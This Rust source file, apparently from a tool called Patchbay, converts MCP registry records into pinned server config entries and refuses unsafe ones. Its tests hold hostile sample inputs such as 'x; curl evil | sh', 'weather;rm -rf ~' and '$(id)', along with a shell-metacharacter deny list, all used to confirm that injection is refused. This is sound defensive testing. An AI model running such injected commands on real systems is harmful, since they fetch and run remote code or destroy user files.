//! From a registry record to a server entry: which way to run it, what to ask the user, and
//! the exact entry saved, refusing a record that could run something else than it says.
//!
//! A package becomes a stdio server with its version pinned: `npx -y PKG@VERSION` (npm), `uvx
//! PKG==VERSION` (PyPI), `docker run -i --rm IMAGE:VERSION` (OCI, when Docker is there). A
//! `streamable-http` remote becomes a remote server. What the record leaves to the user (a
//! required argument or environment variable without a value) is asked, in this order: the
//! runtime's arguments, the package's, then its environment; a secret one goes to the vault,
//! never into the entry.
//!
//! Refused, with the reason: a value with a shell metacharacter or a line break (clients may
//! run entries through a shell, `cmd.exe` on Windows), an identifier or version that is not a
//! plain package name, a registry type or transport this code does not run, a package from a
//! registry other than its type's public one, and plain http to anything but loopback.

use std::collections::BTreeMap;

use super::record::{Argument, Command, Input, KeyValueInput, Package, Remote, ServerDetail};
use crate::config::{Config, ConfigError, ServerConfig};

/// What a record can run as.
#[derive(Debug, Clone, Copy)]
pub enum Way<'a> {
    /// A package run locally over stdio.
    Package(&'a Package),
    /// A remote endpoint.
    Remote(&'a Remote),
    /// A command given whole by an install link ([`super::link`]); never from a registry.
    Command(&'a Command),
    /// An `.mcpb` bundle, downloaded and checked ([`bundle_file`]), then added as any bundle
    /// (`crate::bundle`): what it asks is in its manifest, known once downloaded.
    Bundle(&'a Package),
}

/// A value to ask the user for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Question {
    /// What it names: an environment variable, or an argument (`--flag`, or its hint).
    pub name: String,
    /// What the record says of it.
    pub description: Option<String>,
    /// Whether it is a secret (kept in the keychain, not echoed).
    pub secret: bool,
    /// The value taken when the answer is empty.
    pub default: Option<String>,
    /// The values allowed, when the record lists them.
    pub choices: Vec<String>,
}

/// A record made a server entry.
#[derive(Debug, Clone)]
pub struct Planned {
    /// The entry to save (its `registry` says where it came from).
    pub server: ServerConfig,
    /// Secret environment values, by variable, for the vault.
    pub secrets: BTreeMap<String, String>,
}

/// Why a record cannot be added.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PlanError {
    /// Nothing in the record runs here.
    #[error("`{name}` has no package or remote endpoint Patchbay can run: {why}")]
    NothingToRun {
        /// The record.
        name: String,
        /// What it offers instead.
        why: String,
    },
    /// A registry type this code does not run.
    #[error("package type `{0}` is not one Patchbay runs (npm, pypi, oci)")]
    UnknownRegistryType(String),
    /// A value that could run something else.
    #[error("the record's {what} `{value}` holds a shell metacharacter or a line break; refused")]
    Unsafe {
        /// Where it is.
        what: String,
        /// The value, as the record gave it.
        value: String,
    },
    /// A name that is not a plain package name, version or variable.
    #[error("the record's {what} `{value}` is not a valid {kind}")]
    Invalid {
        /// Where it is.
        what: String,
        /// The value.
        value: String,
        /// What it should be.
        kind: &'static str,
    },
    /// Something the record needs that is not supported yet.
    #[error("{0}")]
    Unsupported(String),
    /// The answers do not fit the questions.
    #[error("{0}")]
    Answers(String),
}

/// The shell metacharacters of `sh` and `cmd.exe` a value may not hold, and line breaks.
const METACHARACTERS: &[char] = &[
    ';', '&', '|', '$', '`', '<', '>', '(', ')', '\'', '"', '^', '%', '!', '\n', '\r', '\0',
];

/// The public registries each package type is fetched from; a record naming another is
/// refused rather than run from where it was not meant to be.
const PUBLIC_REGISTRIES: &[(&str, &[&str])] = &[
    (
        "npm",
        &["https://registry.npmjs.org", "https://registry.npmjs.org/"],
    ),
    (
        "pypi",
        &[
            "https://pypi.org",
            "https://pypi.org/",
            "https://pypi.org/simple",
        ],
    ),
    (
        "oci",
        &["https://docker.io", "https://registry-1.docker.io"],
    ),
];

/// The first way of running `detail` that this code supports: a stdio package of a known type,
/// else a `streamable-http` remote. An unknown package type is refused, not skipped, when
/// nothing else runs.
pub fn choose(detail: &ServerDetail) -> Result<Way<'_>, PlanError> {
    if let Some(command) = &detail.command {
        return Ok(Way::Command(command));
    }
    let known = |p: &&Package| {
        matches!(p.registry_type.as_str(), "npm" | "pypi" | "oci") && p.transport.kind == "stdio"
    };
    if let Some(package) = detail.packages.iter().find(known) {
        return Ok(Way::Package(package));
    }
    let bundle = |p: &&Package| p.registry_type == "mcpb" && p.transport.kind == "stdio";
    if let Some(package) = detail.packages.iter().find(bundle) {
        return Ok(Way::Bundle(package));
    }
    if let Some(remote) = detail.remotes.iter().find(|r| r.kind == "streamable-http") {
        return Ok(Way::Remote(remote));
    }
    if let Some(package) = detail.packages.first() {
        return match package.registry_type.as_str() {
            "npm" | "pypi" | "oci" | "mcpb" => Err(PlanError::NothingToRun {
                name: detail.name.clone(),
                why: format!("its package speaks `{}`, not stdio", package.transport.kind),
            }),
            other => Err(PlanError::UnknownRegistryType(other.to_owned())),
        };
    }
    let why = match detail.remotes.first() {
        Some(remote) => format!("its remote speaks `{}`, not streamable-http", remote.kind),
        None => "it lists neither".to_owned(),
    };
    Err(PlanError::NothingToRun {
        name: detail.name.clone(),
        why,
    })
}

/// The values `way` leaves to the user, in the order they are asked (none for a bundle before
/// it is downloaded: its manifest asks).
pub fn questions(way: Way<'_>) -> Vec<Question> {
    match way {
        Way::Bundle(_) => Vec::new(),
        Way::Package(package) => {
            let arguments = (package.runtime_arguments.iter())
                .chain(&package.package_arguments)
                .filter(|a| asked(&a.input))
                .map(|a| question(argument_label(a), &a.input));
            let environment = (package.environment_variables.iter())
                .filter(|v| asked(&v.input))
                .map(|v| question(v.name.clone(), &v.input));
            arguments.chain(environment).collect()
        }
        Way::Remote(remote) => (remote.headers.iter())
            .filter(|h| asked(&h.input))
            .map(|h| question(h.name.clone(), &h.input))
            .collect(),
        Way::Command(command) => (command.environment_variables.iter())
            .filter(|v| asked(&v.input))
            .map(|v| question(v.name.clone(), &v.input))
            .collect(),
    }
}

/// The environment `way` sets.
fn environment(way: Way<'_>) -> &[KeyValueInput] {
    match way {
        Way::Package(package) => &package.environment_variables,
        Way::Command(command) => &command.environment_variables,
        Way::Remote(_) | Way::Bundle(_) => &[],
    }
}

/// Whether an input is asked: required and without a fixed value.
fn asked(input: &Input) -> bool {
    input.is_required && input.value.is_none()
}

fn question(name: String, input: &Input) -> Question {
    Question {
        name,
        description: input.description.clone(),
        secret: input.is_secret,
        default: input.default.clone(),
        choices: input.choices.clone(),
    }
}

fn argument_label(argument: &Argument) -> String {
    (argument.name.clone())
        .or_else(|| argument.value_hint.clone())
        .unwrap_or_else(|| "argument".to_owned())
}

/// `detail` run `way`, with `answers` to its [`questions`] in order. Docker's presence is
/// `docker` (an OCI package needs it).
pub fn plan(
    detail: &ServerDetail,
    way: Way<'_>,
    answers: &[String],
    docker: bool,
) -> Result<Planned, PlanError> {
    if let Way::Remote(remote) = way
        && let Some(header) = remote.headers.iter().find(|h| h.input.is_required)
    {
        return Err(PlanError::Unsupported(format!(
            "`{}` wants header `{}`: add it with `patchbay connect {} --header {}`",
            detail.name, header.name, remote.url, header.name
        )));
    }
    let wanted = questions(way);
    if answers.len() != wanted.len() {
        return Err(PlanError::Answers(format!(
            "{} values asked, {} given",
            wanted.len(),
            answers.len()
        )));
    }
    let mut answers = wanted.iter().zip(answers).map(|(q, a)| match a.is_empty() {
        true => q.default.clone().unwrap_or_default(),
        false => a.clone(),
    });
    for (q, a) in wanted.iter().zip(answers.clone()) {
        if a.is_empty() {
            return Err(PlanError::Answers(format!("`{}` needs a value", q.name)));
        }
        if !q.choices.is_empty() && !q.choices.contains(&a) {
            let allowed = q.choices.join(", ");
            return Err(PlanError::Answers(format!(
                "`{}` takes one of: {allowed}",
                q.name
            )));
        }
        if !q.secret {
            safe(&format!("value for `{}`", q.name), &a)?;
        }
    }
    let mut server = match way {
        Way::Package(package) => package_server(package, &mut answers, docker)?,
        Way::Remote(remote) => remote_server(remote)?,
        Way::Command(command) => command_server(command)?,
        Way::Bundle(package) => {
            bundle_file(package)?;
            return Err(PlanError::Unsupported(format!(
                "`{}` is an .mcpb bundle: its entry is made from its manifest once downloaded",
                detail.name
            )));
        }
    };
    let mut secrets = BTreeMap::new();
    for variable in environment(way) {
        let what = format!("environment variable `{}`", variable.name);
        if !crate::names::valid_env_var(&variable.name) {
            return Err(invalid(what, &variable.name, "variable name"));
        }
        let value = match (&variable.input.value, asked(&variable.input)) {
            (Some(value), _) => Some(value.clone()),
            (None, true) => answers.next(),
            (None, false) => variable.input.default.clone(),
        };
        let Some(value) = value else { continue };
        match variable.input.is_secret {
            true => {
                server.secret_env.push(variable.name.clone());
                secrets.insert(variable.name.clone(), value);
            }
            false => {
                safe(&what, &value)?;
                server.env.insert(variable.name.clone(), value);
            }
        }
    }
    if !matches!(way, Way::Command(_)) {
        server.registry = Some(crate::config::RegistrySource {
            name: detail.name.clone(),
            version: detail.version.clone(),
        });
    }
    Ok(Planned { server, secrets })
}

/// The program a way runs with (`npx`, `uvx`, `docker`, a link's command); none for a remote
/// endpoint or a bundle (its manifest says).
pub fn runtime(way: Way<'_>) -> Option<&str> {
    match way {
        Way::Command(command) => Some(&command.command),
        Way::Bundle(_) => None,
        Way::Package(package) => Some(match package.registry_type.as_str() {
            "npm" => "npx",
            "pypi" => "uvx",
            _ => "docker",
        }),
        Way::Remote(_) => None,
    }
}

/// A record ready to be added to a config: its local name and its entry.
#[derive(Debug, Clone)]
pub struct Adding {
    /// The server's name in the config.
    pub name: String,
    /// The entry (started as the config's `default_start` says) and its secrets.
    pub planned: Planned,
}

/// Why a record cannot be added to a config.
#[derive(Debug, thiserror::Error)]
pub enum AddingError {
    /// The record cannot be run as asked.
    #[error(transparent)]
    Plan(#[from] PlanError),
    /// The local name asked for is not valid or taken.
    #[error(transparent)]
    Name(#[from] ConfigError),
}

/// `detail` run `way` with `answers` (as [`plan`]), named for `config`: `local` as given
/// (valid and free), or the registry name's last part made a server name, kept apart from the
/// servers configured. The one path from a record to a config entry, for the CLI and the hub.
pub fn adding(
    config: &Config,
    detail: &ServerDetail,
    way: Way<'_>,
    answers: &[String],
    local: Option<String>,
    docker: bool,
) -> Result<Adding, AddingError> {
    let mut planned = plan(detail, way, answers, docker)?;
    planned.server.start = config.hub.default_start;
    let name = local_name(config, detail, local)?;
    Ok(Adding { name, planned })
}

fn local_name(
    config: &Config,
    detail: &ServerDetail,
    local: Option<String>,
) -> Result<String, ConfigError> {
    if let Some(name) = local {
        if !crate::names::valid_server_name(&name) {
            return Err(ConfigError::InvalidName(name));
        }
        if config.servers.contains_key(&name) {
            return Err(ConfigError::Exists(name));
        }
        return Ok(name);
    }
    let last = detail.name.rsplit('/').next().unwrap_or_default();
    let base = crate::names::server_name_like(last).unwrap_or_else(|| "server".into());
    Ok(crate::names::unused_name(&base, |n| {
        config.servers.contains_key(n)
    }))
}

fn invalid(what: String, value: &str, kind: &'static str) -> PlanError {
    PlanError::Invalid {
        what,
        value: value.to_owned(),
        kind,
    }
}

/// `server`, installed from record `installed`, moved to `newer`, a later version of that
/// record: the word that pins the package (`PKG@V`, `PKG==V`, `IMAGE:V`) replaced, everything
/// the user chose kept. Refused when the package changed kind or name, when the entry no longer
/// runs the installed package (edited by hand), or when the newer version asks for a value
/// the installed one did not (it is then added again).
pub fn repin(
    server: &ServerConfig,
    installed: &ServerDetail,
    newer: &ServerDetail,
) -> Result<ServerConfig, PlanError> {
    let again = |why: String| PlanError::Unsupported(format!("{why}: remove it and add it again"));
    if let (Ok(Way::Bundle(_)), _) | (_, Ok(Way::Bundle(_))) = (choose(installed), choose(newer)) {
        return Err(again(format!("`{}` is an .mcpb bundle", newer.name)));
    }
    let (Way::Package(was), Way::Package(now)) = (choose(installed)?, choose(newer)?) else {
        return Err(again(format!(
            "`{}` changed between a package and a remote",
            newer.name
        )));
    };
    if (&was.registry_type, &was.identifier) != (&now.registry_type, &now.identifier) {
        return Err(again(format!(
            "version {} is another package ({} `{}`)",
            newer.version, now.registry_type, now.identifier
        )));
    }
    let version = now.version.as_deref().unwrap_or_default();
    if !plain(version, |c| c.is_ascii_alphanumeric() || "-._+".contains(c)) {
        return Err(invalid("package version".into(), version, "version"));
    }
    let pinned = |v: &str| match now.registry_type.as_str() {
        "npm" => format!("{}@{v}", now.identifier),
        "pypi" => format!("{}=={v}", now.identifier),
        _ => format!("{}:{v}", now.identifier),
    };
    let old = pinned(was.version.as_deref().unwrap_or_default());
    let Some(at) = server.args.iter().position(|a| *a == old) else {
        return Err(again(format!("its command no longer runs `{old}`")));
    };
    let known: Vec<String> = questions(Way::Package(was))
        .into_iter()
        .map(|q| q.name)
        .collect();
    let asked = questions(Way::Package(now)).into_iter();
    if let Some(new) = asked.into_iter().find(|q| !known.contains(&q.name)) {
        return Err(again(format!(
            "version {} asks for `{}`, which the installed one did not",
            newer.version, new.name
        )));
    }
    let mut moved = server.clone();
    moved.args[at] = pinned(version);
    moved.registry = Some(crate::config::RegistrySource {
        name: newer.name.clone(),
        version: newer.version.clone(),
    });
    Ok(moved)
}

/// Where a bundle package is downloaded from and the SHA-256 (hex) its bytes must have: an
/// https URL (http only to loopback), and a digest, which is required.
pub fn bundle_file(package: &Package) -> Result<(&str, &str), PlanError> {
    let url = package.identifier.as_str();
    crate::config::check_remote_url(url).map_err(PlanError::Unsupported)?;
    let sha = package.file_sha256.as_deref().unwrap_or_default();
    if sha.len() != 64 || !sha.chars().all(|c| c.is_ascii_hexdigit()) {
        return Err(PlanError::Unsupported(format!(
            "the bundle `{url}` has no valid fileSha256 in its record; a bundle is installed only when its digest is known"
        )));
    }
    Ok((url, sha))
}

/// Refuse `value` (at `what`) when it holds a shell metacharacter or a line break.
pub fn safe(what: &str, value: &str) -> Result<(), PlanError> {
    match value.contains(METACHARACTERS) {
        true => Err(PlanError::Unsafe {
            what: what.to_owned(),
            value: value.to_owned(),
        }),
        false => Ok(()),
    }
}

/// Whether `text` is made only of `allowed` characters and starts with a letter or digit (or
/// `@`, for an npm scope).
fn plain(text: &str, allowed: impl Fn(char) -> bool) -> bool {
    let first = text.chars().next();
    first.is_some_and(|c| c.is_ascii_alphanumeric() || c == '@') && text.chars().all(allowed)
}

fn package_server(
    package: &Package,
    answers: &mut impl Iterator<Item = String>,
    docker: bool,
) -> Result<ServerConfig, PlanError> {
    let kind = package.registry_type.as_str();
    if let Some(base) = &package.registry_base_url {
        let public = PUBLIC_REGISTRIES.iter().find(|(k, _)| *k == kind);
        if !public.is_some_and(|(_, urls)| urls.contains(&base.as_str())) {
            return Err(PlanError::Unsupported(format!(
                "the package is published on `{base}`, not its type's public registry; Patchbay runs only public {kind} packages"
            )));
        }
    }
    let identifier = &package.identifier;
    let name_ok = match kind {
        "npm" => plain(identifier, |c| {
            c.is_ascii_lowercase() || c.is_ascii_digit() || "-._~@/".contains(c)
        }),
        "pypi" => plain(identifier, |c| {
            c.is_ascii_alphanumeric() || "-._".contains(c)
        }),
        "oci" => plain(identifier, |c| {
            c.is_ascii_lowercase() || c.is_ascii_digit() || "-._/:@".contains(c)
        }),
        other => return Err(PlanError::UnknownRegistryType(other.to_owned())),
    };
    if !name_ok {
        return Err(invalid(
            "package identifier".into(),
            identifier,
            "package name",
        ));
    }
    let version = package.version.as_deref().unwrap_or_default();
    if !plain(version, |c| c.is_ascii_alphanumeric() || "-._+".contains(c)) {
        return Err(invalid("package version".into(), version, "version"));
    }
    let mut runtime = arguments(&package.runtime_arguments, "runtime argument", answers)?;
    let rest = arguments(&package.package_arguments, "package argument", answers)?;
    let (command, mut args) = match kind {
        "npm" => ("npx", vec!["-y".to_owned()]),
        "pypi" => ("uvx", Vec::new()),
        _ if !docker => {
            return Err(PlanError::Unsupported(format!(
                "`{identifier}` is a container image and Docker is not installed; install Docker and try again"
            )));
        }
        _ => ("docker", vec!["run".into(), "-i".into(), "--rm".into()]),
    };
    args.append(&mut runtime);
    match kind {
        "npm" => args.push(format!("{identifier}@{version}")),
        "pypi" => args.push(format!("{identifier}=={version}")),
        _ => {
            // The container sees only the variables passed by name.
            for variable in &package.environment_variables {
                args.push("-e".into());
                args.push(variable.name.clone());
            }
            args.push(format!("{identifier}:{version}"));
        }
    }
    args.extend(rest);
    Ok(ServerConfig::new(command, args))
}

/// The command-line words of `arguments`, asked ones taken from `answers`.
fn arguments(
    arguments: &[Argument],
    what: &str,
    answers: &mut impl Iterator<Item = String>,
) -> Result<Vec<String>, PlanError> {
    let mut words = Vec::new();
    for argument in arguments {
        let label = argument_label(argument);
        if argument.input.is_secret {
            return Err(PlanError::Unsupported(format!(
                "{what} `{label}` is a secret, and a secret cannot be kept out of a command line; not supported"
            )));
        }
        let value = match (&argument.input.value, asked(&argument.input)) {
            (Some(value), _) => Some(value.clone()),
            (None, true) => answers.next(),
            (None, false) => argument.input.default.clone(),
        };
        let at = format!("{what} `{label}`");
        match argument.kind.as_str() {
            "positional" => {
                if let Some(value) = value {
                    safe(&at, &value)?;
                    words.push(value);
                }
            }
            "named" => {
                let flag = argument.name.clone().unwrap_or_default();
                if !plain(flag.trim_start_matches('-'), |c| {
                    c.is_ascii_alphanumeric() || "-_.".contains(c)
                }) {
                    return Err(invalid(at, &flag, "flag"));
                }
                if let Some(value) = value {
                    safe(&at, &value)?;
                    words.push(flag);
                    words.push(value);
                }
            }
            other => {
                return Err(PlanError::Unsupported(format!(
                    "{at} is of type `{other}`, which Patchbay does not know"
                )));
            }
        }
    }
    Ok(words)
}

fn command_server(command: &Command) -> Result<ServerConfig, PlanError> {
    if command.command.trim().is_empty() {
        return Err(PlanError::Answers("the link names no command".into()));
    }
    safe("command", &command.command)?;
    for arg in &command.args {
        safe("argument", arg)?;
    }
    Ok(ServerConfig::new(
        command.command.clone(),
        command.args.clone(),
    ))
}

fn remote_server(remote: &Remote) -> Result<ServerConfig, PlanError> {
    if remote.url.contains('{') {
        return Err(PlanError::Unsupported(format!(
            "the endpoint `{}` has variables to fill in, which Patchbay does not do yet; connect it with `patchbay connect URL`",
            remote.url
        )));
    }
    safe("endpoint", &remote.url)?;
    crate::config::check_remote_url(&remote.url).map_err(PlanError::Unsupported)?;
    Ok(ServerConfig::remote(remote.url.clone()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn detail(server: serde_json::Value) -> ServerDetail {
        let mut server = server;
        server["name"] = json!("io.github.acme/weather");
        server["description"] = json!("Weather");
        server["version"] = json!("1.2.0");
        serde_json::from_value(server).unwrap()
    }

    fn npm(extra: serde_json::Value) -> ServerDetail {
        let mut package = json!({"registryType": "npm", "identifier": "@acme/weather-mcp",
            "version": "1.2.0", "transport": {"type": "stdio"}});
        package
            .as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        detail(json!({ "packages": [package] }))
    }

    fn planned(detail: &ServerDetail, answers: &[&str]) -> Result<Planned, PlanError> {
        let answers: Vec<String> = answers.iter().map(|a| a.to_string()).collect();
        plan(detail, choose(detail)?, &answers, true)
    }

    #[test]
    fn an_added_record_is_named_apart_from_the_servers_configured() {
        let record = npm(json!({}));
        let way = choose(&record).unwrap();
        let mut config = Config::default();
        config.hub.default_start = crate::config::StartMode::Eager;
        let first = adding(&config, &record, way, &[], None, true).unwrap();
        assert_eq!(first.name, "weather", "the registry name's last part");
        assert_eq!(
            first.planned.server.start,
            crate::config::StartMode::Eager,
            "started as the config's default_start says"
        );
        config
            .servers
            .insert("weather".into(), first.planned.server.clone());
        let second = adding(&config, &record, way, &[], None, true).unwrap();
        assert_ne!(second.name, "weather", "kept apart from the one configured");
        assert!(matches!(
            adding(&config, &record, way, &[], Some("weather".into()), true),
            Err(AddingError::Name(ConfigError::Exists(_)))
        ));
        assert!(matches!(
            adding(&config, &record, way, &[], Some("no spaces".into()), true),
            Err(AddingError::Name(ConfigError::InvalidName(_)))
        ));
        assert_eq!(runtime(way), Some("npx"));
    }

    #[test]
    fn each_package_type_runs_pinned_with_its_runtime() {
        let got = planned(&npm(json!({})), &[]).unwrap().server;
        assert_eq!(
            (got.command.as_str(), got.args.clone()),
            ("npx", vec!["-y".into(), "@acme/weather-mcp@1.2.0".into()])
        );
        let source = got.registry.unwrap();
        assert_eq!(
            (source.name.as_str(), source.version.as_str()),
            ("io.github.acme/weather", "1.2.0")
        );

        let pypi = detail(
            json!({"packages": [{"registryType": "pypi", "identifier": "mcp-server-time",
            "version": "2026.10.19", "transport": {"type": "stdio"}}]}),
        );
        let got = planned(&pypi, &[]).unwrap().server;
        assert_eq!(
            (got.command.as_str(), got.args),
            ("uvx", vec!["mcp-server-time==2026.10.19".into()])
        );

        let oci = detail(
            json!({"packages": [{"registryType": "oci", "identifier": "ghcr.io/acme/weather",
            "version": "1.2.0", "transport": {"type": "stdio"},
            "environmentVariables": [{"name": "UNITS", "value": "metric"}]}]}),
        );
        let got = planned(&oci, &[]).unwrap().server;
        assert_eq!(got.command, "docker");
        assert_eq!(
            got.args,
            [
                "run",
                "-i",
                "--rm",
                "-e",
                "UNITS",
                "ghcr.io/acme/weather:1.2.0"
            ]
        );
        assert_eq!(got.env.get("UNITS").map(String::as_str), Some("metric"));
        let way = choose(&oci).unwrap();
        let refused = plan(&oci, way, &[], false).unwrap_err();
        assert!(
            refused.to_string().contains("Docker is not installed"),
            "{refused}"
        );
    }

    #[test]
    fn what_the_record_leaves_open_is_asked_in_order_and_secrets_go_to_the_vault() {
        let record = npm(json!({
            "runtimeArguments": [{"type": "named", "name": "--node-options", "value": "--max-old-space-size=256"}],
            "packageArguments": [
                {"type": "positional", "valueHint": "directory", "isRequired": true},
                {"type": "named", "name": "--units", "isRequired": true, "choices": ["metric", "imperial"]},
            ],
            "environmentVariables": [
                {"name": "WEATHER_API_KEY", "isRequired": true, "isSecret": true, "description": "Your key"},
                {"name": "REGION", "isRequired": true, "default": "eu"},
                {"name": "OPTIONAL_ONE"},
            ],
        }));
        let asked: Vec<String> = questions(choose(&record).unwrap())
            .into_iter()
            .map(|q| q.name)
            .collect();
        assert_eq!(asked, ["directory", "--units", "WEATHER_API_KEY", "REGION"]);
        let got = planned(&record, &["/data/w", "metric", "s3cr3t;$x", ""]).unwrap();
        assert_eq!(
            got.server.args,
            [
                "-y",
                "--node-options",
                "--max-old-space-size=256",
                "@acme/weather-mcp@1.2.0",
                "/data/w",
                "--units",
                "metric"
            ]
        );
        assert_eq!(got.server.secret_env, ["WEATHER_API_KEY"]);
        assert_eq!(
            got.secrets.get("WEATHER_API_KEY").map(String::as_str),
            Some("s3cr3t;$x"),
            "a secret is never in a shell"
        );
        assert!(!got.server.env.contains_key("WEATHER_API_KEY"));
        assert_eq!(
            got.server.env.get("REGION").map(String::as_str),
            Some("eu"),
            "an empty answer takes the default"
        );
        assert!(!got.server.env.contains_key("OPTIONAL_ONE"));

        let bad_choice = planned(&record, &["/d", "kelvin", "k", "eu"]).unwrap_err();
        assert!(
            bad_choice.to_string().contains("metric, imperial"),
            "{bad_choice}"
        );
        let too_few = planned(&record, &["/d"]).unwrap_err();
        assert!(matches!(too_few, PlanError::Answers(_)), "{too_few}");
        let missing = planned(&npm(json!({"packageArguments": [{"type": "positional", "valueHint": "dir", "isRequired": true}]})), &[""]).unwrap_err();
        assert!(missing.to_string().contains("needs a value"), "{missing}");
    }

    #[test]
    fn hostile_records_are_refused_with_the_reason() {
        let injected = npm(
            json!({"packageArguments": [{"type": "positional", "value": "x; curl evil | sh"}]}),
        );
        let err = planned(&injected, &[]).unwrap_err();
        assert!(matches!(err, PlanError::Unsafe { .. }), "{err}");
        assert!(err.to_string().contains("shell metacharacter"), "{err}");

        let in_env = npm(json!({"environmentVariables": [{"name": "X", "value": "$(id)"}]}));
        assert!(matches!(
            planned(&in_env, &[]).unwrap_err(),
            PlanError::Unsafe { .. }
        ));
        let newline = npm(json!({"packageArguments": [{"type": "positional", "value": "a\nb"}]}));
        assert!(matches!(
            planned(&newline, &[]).unwrap_err(),
            PlanError::Unsafe { .. }
        ));
        let answered = npm(
            json!({"packageArguments": [{"type": "positional", "valueHint": "d", "isRequired": true}]}),
        );
        assert!(
            matches!(
                planned(&answered, &["a & b"]).unwrap_err(),
                PlanError::Unsafe { .. }
            ),
            "an answer too"
        );

        let identifier = npm(json!({"identifier": "weather;rm -rf ~"}));
        assert!(matches!(
            planned(&identifier, &[]).unwrap_err(),
            PlanError::Invalid { .. }
        ));
        let version = npm(json!({"version": "1.0 || true"}));
        assert!(matches!(
            planned(&version, &[]).unwrap_err(),
            PlanError::Invalid { .. }
        ));
        let flag = npm(
            json!({"packageArguments": [{"type": "named", "name": "--x=$(id)", "value": "1"}]}),
        );
        assert!(matches!(
            planned(&flag, &[]).unwrap_err(),
            PlanError::Invalid { .. }
        ));
        let var = npm(json!({"environmentVariables": [{"name": "BAD-NAME", "value": "1"}]}));
        assert!(matches!(
            planned(&var, &[]).unwrap_err(),
            PlanError::Invalid { .. }
        ));

        let unknown = detail(
            json!({"packages": [{"registryType": "cargo", "identifier": "weather",
            "version": "1", "transport": {"type": "stdio"}}]}),
        );
        assert_eq!(
            choose(&unknown).unwrap_err(),
            PlanError::UnknownRegistryType("cargo".into())
        );
        let elsewhere = npm(json!({"registryBaseUrl": "https://npm.evil.example"}));
        assert!(matches!(
            planned(&elsewhere, &[]).unwrap_err(),
            PlanError::Unsupported(_)
        ));
        let secret_arg = npm(
            json!({"packageArguments": [{"type": "positional", "value": "k", "isSecret": true}]}),
        );
        assert!(matches!(
            planned(&secret_arg, &[]).unwrap_err(),
            PlanError::Unsupported(_)
        ));

        let plain_http = detail(
            json!({"remotes": [{"type": "streamable-http", "url": "http://weather.example/mcp"}]}),
        );
        let err = planned(&plain_http, &[]).unwrap_err();
        assert!(err.to_string().contains("plain http"), "{err}");
        let nothing = detail(json!({"remotes": [{"type": "sse", "url": "https://w.example/sse"}]}));
        assert!(matches!(
            choose(&nothing).unwrap_err(),
            PlanError::NothingToRun { .. }
        ));
        let bundle = detail(
            json!({"packages": [{"registryType": "mcpb", "identifier": "https://w.example/w.mcpb",
            "version": "1", "fileSha256": "00", "transport": {"type": "stdio"}}]}),
        );
        let Ok(Way::Bundle(package)) = choose(&bundle) else {
            panic!("a bundle package is a way to run it")
        };
        let err = bundle_file(package).unwrap_err().to_string();
        assert!(
            err.contains("no valid fileSha256"),
            "a digest is required: {err}"
        );
        let mut plain = package.clone();
        plain.file_sha256 = Some("ab".repeat(32));
        assert!(bundle_file(&plain).is_ok());
        plain.identifier = "http://w.example/w.mcpb".into();
        let err = bundle_file(&plain).unwrap_err().to_string();
        assert!(err.contains("plain http"), "{err}");
        plain.identifier = "http://127.0.0.1:8/w.mcpb".into();
        assert!(bundle_file(&plain).is_ok(), "loopback http is allowed");
    }

    #[test]
    fn an_update_moves_the_pinned_word_and_keeps_the_users_choices() {
        let old = npm(json!({"version": "1.0.0",
            "packageArguments": [{"type": "positional", "valueHint": "dir", "isRequired": true}]}));
        let installed = planned(&old, &["/srv/w"]).unwrap().server;
        let new = npm(json!({"version": "1.3.0",
            "packageArguments": [{"type": "positional", "valueHint": "dir", "isRequired": true}]}));
        let mut newer = new.clone();
        newer.version = "1.3.0".into();
        let moved = repin(&installed, &old, &newer).unwrap();
        assert_eq!(moved.args, ["-y", "@acme/weather-mcp@1.3.0", "/srv/w"]);
        assert_eq!(moved.registry.unwrap().version, "1.3.0");

        let asks_more = npm(json!({"version": "1.3.0",
            "packageArguments": [{"type": "positional", "valueHint": "dir", "isRequired": true}],
            "environmentVariables": [{"name": "API_KEY", "isRequired": true, "isSecret": true}]}));
        let err = repin(&installed, &old, &asks_more).unwrap_err();
        assert!(err.to_string().contains("`API_KEY`"), "{err}");
        let renamed = npm(json!({"identifier": "@acme/other", "version": "1.3.0"}));
        assert!(
            repin(&installed, &old, &renamed)
                .unwrap_err()
                .to_string()
                .contains("another package")
        );
        let mut edited = installed.clone();
        edited.args[1] = "@acme/weather-mcp@9".into();
        assert!(
            repin(&edited, &old, &newer)
                .unwrap_err()
                .to_string()
                .contains("no longer runs")
        );
    }

    #[test]
    fn a_remote_becomes_a_remote_entry() {
        let remote = detail(
            json!({"remotes": [{"type": "streamable-http", "url": "https://weather.example/mcp"}]}),
        );
        let got = planned(&remote, &[]).unwrap().server;
        assert_eq!(got.url.as_deref(), Some("https://weather.example/mcp"));
        let loopback = detail(
            json!({"remotes": [{"type": "streamable-http", "url": "http://127.0.0.1:9/mcp"}]}),
        );
        assert!(planned(&loopback, &[]).is_ok(), "plain http to loopback");
        let templated = detail(
            json!({"remotes": [{"type": "streamable-http", "url": "https://{tenant}.example/mcp"}]}),
        );
        assert!(matches!(
            planned(&templated, &[]).unwrap_err(),
            PlanError::Unsupported(_)
        ));
    }
}
